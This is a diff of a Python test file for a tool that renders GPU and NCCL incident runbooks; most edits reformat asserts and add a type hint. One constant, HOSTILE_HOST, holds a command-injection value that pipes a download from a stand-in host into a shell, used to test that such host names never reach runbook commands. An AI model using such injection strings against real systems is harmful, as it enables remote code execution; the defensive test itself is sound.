@@ -16,7 +16,7 @@ from runbooks.values import DERIVED_FIELDS, MAX_VALUE_CHARS
 LEFTOVER_PLACEHOLDER = re.compile(r"\{[a-z][a-z0-9_]*(\|[^{}]*)?\}")
 SETTABLE = sorted((KNOWN_FIELDS | {"culprit_host", "culprit_rank"}) - DERIVED_FIELDS)
 
-TYPICAL = {
+TYPICAL: dict[str, str | int | float] = {
     "culprit_host": "gpu-node-017",
     "culprit_rank": 13,
     "host": "gpu-node-017",
@@ -43,7 +43,12 @@ HOSTILE_HOST = "gpu-1;$(curl evil.example|sh)`id`\x1b[31m\n"
 
 
 def every_text(rendered: RenderedRunbook) -> list[str]:
-    texts = [rendered.title, rendered.summaries.executive, rendered.summaries.engineer, rendered.summaries.oncall]
+    texts = [
+        rendered.title,
+        rendered.summaries.executive,
+        rendered.summaries.engineer,
+        rendered.summaries.oncall,
+    ]
     for step in (*rendered.steps, rendered.verify):
         texts += [step.title, step.expect] + ([step.command] if step.command else [])
     for dead_end in rendered.dead_ends:
@@ -97,11 +102,16 @@ def test_rendered_runbook_is_clean(class_id: str, values: dict[str, object]) -> 
 
 
 def test_values_make_the_runbook_specific() -> None:
-    rendered = runbooks.render_for("hardware/gpu-xid", {"culprit_host": "gpu-node-017", "xid": 79, "device": 3})
+    rendered = runbooks.render_for(
+        "hardware/gpu-xid", {"culprit_host": "gpu-node-017", "xid": 79, "device": 3}
+    )
     assert "gpu-node-017" in rendered.summaries.executive
     assert "GPU has fallen off the bus" in rendered.summaries.executive
     assert "Xid 79" in rendered.summaries.engineer
-    assert rendered.steps[0].command == "scontrol update NodeName=gpu-node-017 State=DRAIN Reason=ncclbot-gpu-xid-79"
+    assert (
+        rendered.steps[0].command
+        == "scontrol update NodeName=gpu-node-017 State=DRAIN Reason=ncclbot-gpu-xid-79"
+    )
     assert "ncclbot probe gpu-node-017 --via slurm" in (rendered.verify.command or "")
 
 
@@ -109,7 +119,10 @@ def test_missing_values_read_as_neutral_wording() -> None:
     rendered = runbooks.render_for("hardware/gpu-xid", {})
     assert "one server" in rendered.summaries.executive
     assert "the failing node" in rendered.summaries.oncall
-    assert rendered.steps[0].command == "scontrol update NodeName=<node> State=DRAIN Reason=ncclbot-gpu-xid-unknown"
+    assert (
+        rendered.steps[0].command
+        == "scontrol update NodeName=<node> State=DRAIN Reason=ncclbot-gpu-xid-unknown"
+    )
 
 
 def test_hostile_host_stays_prose_and_never_reaches_a_command() -> None:
@@ -125,21 +138,37 @@ def test_timeout_is_given_in_words() -> None:
 
 
 def test_interface_from_the_diagnosis_appears_in_the_engineer_view() -> None:
-    rendered = runbooks.render_for("network/interface-selection", {"interface": "docker0", "ip": "172.17.0.2"})
+    rendered = runbooks.render_for(
+        "network/interface-selection", {"interface": "docker0", "ip": "172.17.0.2"}
+    )
     assert "docker0 (172.17.0.2)" in rendered.summaries.engineer
 
 
 def test_unknown_runbook_explains_how_to_collect_more() -> None:
     rendered = runbooks.render_for(UNKNOWN, {})
     all_commands = "\n".join(commands(rendered))
-    for variable in ("NCCL_DEBUG=INFO", "TORCH_NCCL_DUMP_ON_TIMEOUT=1", "TORCH_NCCL_TRACE_BUFFER_SIZE", "TORCH_DISTRIBUTED_DEBUG=DETAIL"):
+    for variable in (
+        "NCCL_DEBUG=INFO",
+        "TORCH_NCCL_DUMP_ON_TIMEOUT=1",
+        "TORCH_NCCL_TRACE_BUFFER_SIZE",
+        "TORCH_DISTRIBUTED_DEBUG=DETAIL",
+    ):
         assert variable in all_commands
     assert "ncclbot diagnose" in (rendered.verify.command or "")
 
 
 def test_json_shape_is_the_contract() -> None:
-    document = runbooks.render_for("cuda/oom", TYPICAL).to_json()  # type: ignore[arg-type]
-    assert list(document) == ["class", "title", "summaries", "steps", "verify", "dead_ends", "prevention", "references"]
+    document = runbooks.render_for("cuda/oom", TYPICAL).to_json()
+    assert list(document) == [
+        "class",
+        "title",
+        "summaries",
+        "steps",
+        "verify",
+        "dead_ends",
+        "prevention",
+        "references",
+    ]
     assert document["class"] == "cuda/oom"
     assert set(document["summaries"]) == {"executive", "engineer", "oncall"}
     assert all(set(step) == {"title", "command", "expect"} for step in document["steps"])
